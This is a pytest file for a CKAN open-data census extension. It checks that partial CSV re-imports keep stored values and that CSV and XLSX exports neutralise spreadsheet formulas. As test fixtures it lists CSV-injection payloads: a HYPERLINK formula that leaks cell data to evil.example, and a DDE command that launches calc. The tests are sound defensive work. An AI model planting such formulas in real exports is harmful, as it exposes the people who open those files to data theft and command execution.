"""Imports never blank data silently (a partial re-import leaves the stored
values and reports exactly what changed), and spreadsheet safety: no
formula in any CSV or XLSX export (lib/spreadsheet.py's policy)."""
from __future__ import annotations

import base64
import csv
import io as stdio

import openpyxl
import pytest

from ckan.lib.uploader import get_resource_uploader
from ckan.tests import factories
from ckan.tests.helpers import call_action

from ckanext.tmopendata.census import io
from ckanext.tmopendata.lib import spreadsheet

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db")

#: Texts a spreadsheet program would evaluate (OWASP CSV injection).
DANGEROUS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-3+cmd|' /C calc'!A0",
             "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _header(*names: str, lang: int = 1) -> str:
    return ",".join(io.HEADERS[f][lang] for f in names)


def _import(census, text: str, role: str = "editor", **data):
    return call_action("tmopendata_census_entry_import", census.ctx(role), campaign_id=census.campaign["id"],
                       upload=text.encode("utf-8"), filename="import.csv", **data)


# --- imports never blank data --------------------------------------------------

def test_partial_reimport_keeps_the_other_fields_and_reports_the_changes(census):
    org = census.org["name"]
    entry = census.entry(title="Registrul străzilor", description="Toate străzile", department="Urbanism",
                         owner_email="date@primariatm.ro", storage="database", formats=["CSV", "XLSX"],
                         information_requests=12, q_digital=True, effort="low",
                         planned_publication="2026-06-30")
    before = call_action("tmopendata_census_entry_show", census.ctx("editor"), id=entry["id"])
    # only two columns: institution, title and the department (changed)
    report = _import(census, f"{_header('organization', 'title', 'department')}\n"
                             f"{org},Registrul străzilor,Direcția Urbanism\n")
    assert (report["updated"], report["created"], report["errors"]) == (1, 0, [])
    assert report["updates"] == [{
        "row": 2, "id": entry["id"], "title": "Registrul străzilor", "organization": org,
        "fields": ["department"], "changes": {"department": ["Urbanism", "Direcția Urbanism"]},
    }]
    after = call_action("tmopendata_census_entry_show", census.ctx("editor"), id=entry["id"])
    for field in ("description", "owner_email", "storage", "formats", "information_requests", "q_digital",
                  "effort", "planned_publication", "priority", "openness_score"):
        assert after[field] == before[field], field
    assert after["department"] == "Direcția Urbanism"
    assert after["history"][-1]["changes"] == {"department": ["Urbanism", "Direcția Urbanism"]}


def test_empty_cells_leave_the_stored_values(census):
    org = census.org["name"]
    entry = census.entry(title="Parcări", description="Locuri de parcare", storage="gis", effort="medium")
    header = _header("organization", "title", "description", "storage", "effort")
    report = _import(census, f"{header}\n{org},Parcări,,,\n")
    assert (report["updated"], report["unchanged"], report["updates"]) == (0, 1, [])
    shown = call_action("tmopendata_census_entry_show", census.ctx("editor"), id=entry["id"])
    assert (shown["description"], shown["storage"], shown["effort"]) == ("Locuri de parcare", "gis", "medium")
    assert [h["action"] for h in shown["history"]] == ["create"]
    # a changed cell among empty ones changes only that field
    report = _import(census, f"{header}\n{org},Parcări,,,high\n")
    assert report["updates"][0]["fields"] == ["effort"]
    shown = call_action("tmopendata_census_entry_show", census.ctx("editor"), id=entry["id"])
    assert (shown["description"], shown["storage"], shown["effort"]) == ("Locuri de parcare", "gis", "high")


# --- spreadsheet safety ---------------------------------------------------------

def test_policy_of_the_shared_helper():
    for text in DANGEROUS:
        assert spreadsheet.csv_cell(text) == "'" + text
        assert spreadsheet.unescape_cell(spreadsheet.csv_cell(text)) == text
    for value in ("Parcări", "2026-06-30", "a=b", "", None, -3, 2.5, True):
        assert spreadsheet.csv_cell(value) == value
    assert spreadsheet.unescape_cell("'quoted") == "'quoted"


def _dangerous_entries(census):
    created = []
    for number, text in enumerate(DANGEROUS):
        created.append(census.entry(title=f"{text} {number}", description=text, department=text))
    return created


def _assert_csv_safe(rows: list[list[str]]):
    for row in rows:
        for cell in row:
            assert not cell.startswith(spreadsheet.FORMULA_PREFIXES), cell


def test_census_csv_export_escapes_formulas_and_reimports_the_same_text(census):
    entries = _dangerous_entries(census)
    exported = call_action("tmopendata_census_entry_export", census.ctx("coordinator"),
                           campaign_id=census.campaign["id"], format="csv", lang="en")
    rows = list(csv.reader(stdio.StringIO(exported["content"].lstrip("\ufeff"), newline="")))
    _assert_csv_safe(rows)
    titles = {r[rows[0].index("Dataset title")] for r in rows[1:]}
    assert titles == {"'" + e["title"] for e in entries}
    # re-imported into a new campaign: the very same texts
    new = call_action("tmopendata_census_campaign_create", census.ctx("coordinator"), name="copie", title="Copie",
                      organizations=[census.org["name"]])
    report = call_action("tmopendata_census_entry_import", census.ctx("coordinator"), campaign_id=new["id"],
                         upload=exported["content"].encode("utf-8"), filename="export.csv")
    assert report["errors"] == [] and report["created"] == len(entries)
    again = call_action("tmopendata_census_entry_list", census.ctx("coordinator"), campaign_id=new["id"])["results"]
    assert sorted(e["description"] for e in again) == sorted(
        e["description"] for e in entries)
    assert sorted(e["title"] for e in again) == sorted(e["title"] for e in entries)


def test_xlsx_export_has_no_formula_cells(census):
    entries = _dangerous_entries(census)
    exported = call_action("tmopendata_census_entry_export", census.ctx("coordinator"),
                           campaign_id=census.campaign["id"], format="xlsx", lang="en")
    book = openpyxl.load_workbook(stdio.BytesIO(base64.b64decode(exported["content"])))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # stored unchanged, as strings (Excel shows the text, never evaluates it)
    for entry in entries:
        assert entry["description"].strip() in texts or entry["description"] in texts


@pytest.mark.plugins("tmopendata", "tmopendata_hvd", "tmopendata_census")
def test_public_inventory_csv_escapes_formulas(census, ckan_config, monkeypatch):
    coordinating = factories.Organization()
    monkeypatch.setitem(ckan_config, "ckanext.tmopendata.census.publish_organization", coordinating["name"])
    call_action("tmopendata_census_campaign_patch", census.ctx("sysadmin"), id=census.campaign["id"], public=True)
    entry = census.entry(title="=HYPERLINK(\"http://evil.example\",\"x\")")
    census.move(entry["id"], "submitted", "under_review", "approved")
    result = call_action("tmopendata_census_publish", census.ctx("sysadmin"), campaign_id=census.campaign["id"])
    resource = call_action("resource_show", census.ctx("sysadmin"), id=result["resource_id"])
    with open(get_resource_uploader(resource).get_path(resource["id"]), encoding="utf-8") as f:
        rows = list(csv.reader(f))
    _assert_csv_safe(rows)
    assert rows[1][rows[0].index("title")] == "'" + entry["title"]
    assert result["validation_status"] == "success"


def test_xlsx_import_template_and_export_cells_are_typed_strings(census):
    """A text exported to XLSX stays a string cell even when it looks like
    a formula; a real number stays a number."""
    census.entry(title="=1+1", information_requests=5)
    exported = call_action("tmopendata_census_entry_export", census.ctx("coordinator"),
                           campaign_id=census.campaign["id"], format="xlsx", lang="en")
    sheet = openpyxl.load_workbook(stdio.BytesIO(base64.b64decode(exported["content"]))).active
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Dataset title") + 1)
    assert (title.value, title.data_type) == ("=1+1", "s")
    requests = sheet.cell(row=2, column=header.index(io.HEADERS["information_requests"][1]) + 1)
    assert requests.value == 5 and requests.data_type == "n"
